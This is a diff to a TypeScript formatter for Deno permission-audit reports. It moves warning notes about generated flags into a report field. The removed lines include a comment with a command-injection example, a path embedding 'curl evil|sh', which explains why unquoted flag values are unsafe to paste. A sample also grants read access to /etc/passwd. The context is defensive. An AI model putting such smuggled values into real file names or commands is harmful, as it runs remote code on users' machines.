@@ -69,6 +69,7 @@ const GAP = "  ";
  *   summary: { read: { allowed: 0, denied: 1 } },
  *   minimalFlags: ["--allow-read=/etc/passwd"],
  *   denoCommand: "deno run --allow-read=/etc/passwd agent.ts",
+ *   flagNotes: [],
  *   policySnippet: {},
  * }, { color: false, width: 80 });
  * console.log(text);
@@ -308,22 +309,7 @@ function denied(
 
 function flags(report: AuditReport, style: Style, width: number): string[] {
   const out = [style.bold("Minimal flags for plain deno run")];
-  const notes: string[] = [];
-  if (
-    report.minimalFlags.length > 0 &&
-    report.entries.some((e) => e.decision === "deny")
-  ) {
-    notes.push(
-      "These flags grant everything the program tried, denied attempts included: drop what it should not have.",
-    );
-  }
-  // Flag values are the program's own strings and are not shell-quoted: a
-  // path like "x;curl evil|sh" would run when the command is pasted.
-  if (report.minimalFlags.some((flag) => !/^[\w@%+=:,./-]+$/.test(flag))) {
-    notes.push(
-      "Some values contain shell characters and are not quoted: read the command before pasting it into a shell.",
-    );
-  }
+  const notes = report.flagNotes;
   for (const note of notes) {
     for (const part of wrap(note, width - INDENT.length)) {
       out.push(INDENT + style.yellow(part));
